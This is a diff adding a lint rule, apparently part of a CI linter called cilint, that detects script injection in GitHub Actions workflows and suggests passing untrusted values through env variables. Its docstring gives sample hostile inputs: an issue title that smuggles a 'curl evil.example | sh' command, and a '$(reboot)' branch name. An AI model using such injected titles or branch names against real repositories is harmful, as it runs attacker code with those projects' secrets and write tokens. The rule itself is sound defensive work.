@@ -1,0 +1,152 @@
+"""Text someone outside the team writes is pasted into a script before it runs.
+
+GitHub fills in every `${{ }}` of a `run:` script before the shell reads it. An issue titled
+`"; curl -s evil.example | sh; "` turns `run: echo "${{ github.event.issue.title }}"` into a
+command that runs with the job's token and secrets. The same holds for
+`actions/github-script`'s `script:` (run as JavaScript) and for the few action inputs that
+actions run as code (`appleboy/ssh-action`'s `script`, `azure/cli`'s `inlineScript`, ...).
+cilint reports each such expression where it stands in the script, when the value is one an
+outsider writes: the title and body of an issue, pull request, discussion, comment or review,
+a contributor's branch name (`github.head_ref`, `pull_request.head.ref`), commit messages and
+commit authors, wiki page names, and the same values of the run that started a `workflow_run`.
+The list is data with its sources (`linter/github_untrusted_contexts.py`: GitHub's hardening
+guide, GitHub Security Lab, actionlint, zizmor). Values only someone with write access sets
+(`github.ref_name`, `workflow_dispatch` inputs, labels, logins, which GitHub restricts to letters,
+digits and hyphens) are not reported.
+
+It follows one step: `${{ env.X }}` where the step's, job's or workflow's `env:` sets `X` from
+such a value, and `${{ steps.S.outputs.O }}` where an earlier script step `S` writes `O=` of
+such a value to `$GITHUB_OUTPUT`. Only the part of an expression that can be its result counts:
+`${{ github.event.issue.title == 'x' }}` pastes `true` or `false`.
+
+The level comes from who can start the job (its triggers, narrowed by its `if:` conditions), and
+only the triggers whose event carries the value count: `github.event.pull_request.title` in a
+workflow that runs on `push` is empty there and nothing is reported.
+
+* error: an outsider can start the job with an event that carries the value, and that run holds
+  the repository's secrets and a writable token (`pull_request_target`, `issues`,
+  `issue_comment`, `pull_request_review`, `discussion`, ...). This is GitHub Security Lab's
+  "pwn request" and untrusted-input pattern: anyone with an account can run code with write
+  access to the repository.
+* warning: otherwise: the value is carried only by events that need write access (`push`, where
+  commit messages are the committers'), or by `pull_request`, whose run from a fork has no
+  secrets and a read-only token and runs the workflow files of the pull request itself (the
+  contributor can change the script anyway; an injection gives them nothing more, GitHub docs
+  "Events that trigger workflows", `pull_request`, "Workflows in forked repositories"). Still
+  worth the two-line fix: the same script may move to a privileged trigger later, and a branch
+  named `$(reboot)` breaks a same-repository build. Composite actions' scripts (whose callers'
+  events are not known) are warnings too.
+
+CircleCI: there is no such sink that an outsider reaches. `<< >>` values are filled in when the
+configuration is compiled, but the values a contributor writes are not among them on CircleCI's
+integrations: a fork's pull request builds as branch `pull/<number>`, and `<< pipeline.git.branch >>`
+is that name; the commit subject and body values (`pipeline.git.commit.subject`, `.body`) and
+the pull request event values (`pipeline.event.github.pull_request.*`) exist only on GitHub App
+pipelines, whose fork pull requests are built only when the project opts in, without its secrets
+unless "pass secrets to builds from forked pull requests" is on. Pipeline parameters come from
+the API or the web app, which need write access to the project. cilint reports nothing on
+CircleCI (CircleCI docs: "Pipeline values and parameters", "Pull request build settings",
+"Build open source projects").
+
+Not followed: `inputs.*` of a composite action or a called workflow (the callers decide what they
+pass; cilint reports the caller's own expressions), outputs of actions (`tj-actions/branch-names`
+outputs the branch name), values written to `$GITHUB_ENV`, and other jobs' outputs
+(`needs.*.outputs`). An expression cilint cannot parse is left out.
+
+One finding per expression per place: the matrix legs and the jobs sharing a step (a local
+composite action used by several jobs) are one finding, at the line of the expression inside the
+script. Messages name the value, where it is pasted and, for errors, the trigger an outsider
+starts the job with.
+
+Examples: a failing and a passing repository per platform, in `rules/examples/template-injection/`;
+`cilint explain CIL111` and docs/rules/template-injection.md show them with what cilint reports.
+
+How to fix: pass the value through an environment variable and quote it in the script:
+`env: {TITLE: "${{ github.event.issue.title }}"}` and `run: echo "$TITLE"`
+(in `actions/github-script`, read `context.payload.issue.title` or `process.env.TITLE`).
+
+Sources: GitHub docs, "Security hardening for GitHub Actions" ("Understanding the risk of script
+injections", "Using an intermediate environment variable"); GitHub Security Lab, "Keeping your
+GitHub Actions and workflows secure Part 2: Untrusted input" and "Part 1: Preventing pwn
+requests"; actionlint, "Script injection by potentially untrusted inputs"; zizmor,
+`template-injection`; CodeQL for Actions, `actions/code-injection/critical`.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from typing import Any
+
+from ..linter.findings import Finding
+from ..linter.model import Injection, JobRun, Project, Span, Trigger
+
+ID = "CIL111"
+NAME = "template-injection"
+LEVEL = "error"
+LEVELS = ("error", "warning")  # every level its findings take, the default first
+SUMMARY = "a value an outsider writes (an issue title, a branch name) is pasted into a script"
+OPTIONS: dict[str, Any] = {}
+TAGS = ("security", "injection")
+SECURITY_SEVERITY = "9.0"
+PRECISION = "high"
+
+_SINKS = {
+    "run": "this script",
+    "github-script": "`actions/github-script`'s `{input}`, run as JavaScript",
+    "action-input": "the action's `{input}`, which it runs as code",
+}
+
+
+@dataclass
+class _Place:
+    injection: Injection
+    jobs: list[JobRun] = field(default_factory=list)
+    triggers: list[Trigger] = field(default_factory=list)
+
+
+def check(project: Project, options: dict[str, Any]) -> Iterator[Finding]:
+    places: dict[tuple[Span, str, str | None], _Place] = {}
+    for workflow in project.workflows():
+        for job in workflow.jobs():
+            for step in job.steps:
+                for injection in step.injections:
+                    key = (injection.span, injection.source, injection.via)
+                    place = places.setdefault(key, _Place(injection))
+                    place.jobs.append(job)
+                    place.triggers.extend(t for t in job.triggers if _carries(injection, t))
+    for place in places.values():
+        if place.triggers:
+            yield _finding(place.injection, place.triggers, place.jobs[0].qualified)
+    for pipeline in project.pipelines:  # actions: their callers' events are not known here
+        for step in pipeline.action_steps:
+            for injection in step.injections:
+                if (injection.span, injection.source, injection.via) not in places:
+                    yield _finding(injection, [], None)
+
+
+def _carries(injection: Injection, trigger: Trigger) -> bool:
+    return injection.events is None or trigger.event in injection.events
+
+
+def _finding(injection: Injection, triggers: list[Trigger], job: str | None) -> Finding:
+    sink = _SINKS[injection.sink].format(input=injection.input)
+    value = f"`{injection.source}`"
+    if injection.via is not None:
+        value = f"`{injection.via}`, set from {value},"
+    outsider = next((t for t in triggers if t.outsider and t.privileged), None)
+    fix = "pass it through `env:` and quote the variable"
+    related: list[tuple[Span, str]] = []
+    if injection.via is not None and injection.via_span is not None:
+        related.append((injection.via_span, f"`{injection.via}` is set from `{injection.source}` here"))
+    if outsider is not None:
+        related.append((outsider.span, f"`{outsider.event}`: an outsider can start the job"))
+        message = (f"{value} ({injection.what}) is pasted into {sink} before it runs: anyone can start "
+                   f"this job with `{outsider.label()}`, and it runs with the repository's secrets and a "
+                   f"writable token; {fix}")
+        return Finding(message, injection.span, job=job, level="error", related=related)
+    events = sorted({t.event for t in triggers})
+    reach = f" (reachable from {', '.join(f'`{e}`' for e in events)}, which an outsider cannot start " \
+            "with secrets)" if events else " (in an action: its callers decide who starts it)"
+    message = f"{value} ({injection.what}) is pasted into {sink} before it runs{reach}; {fix}"
+    return Finding(message, injection.span, job=job, level="warning", related=related)
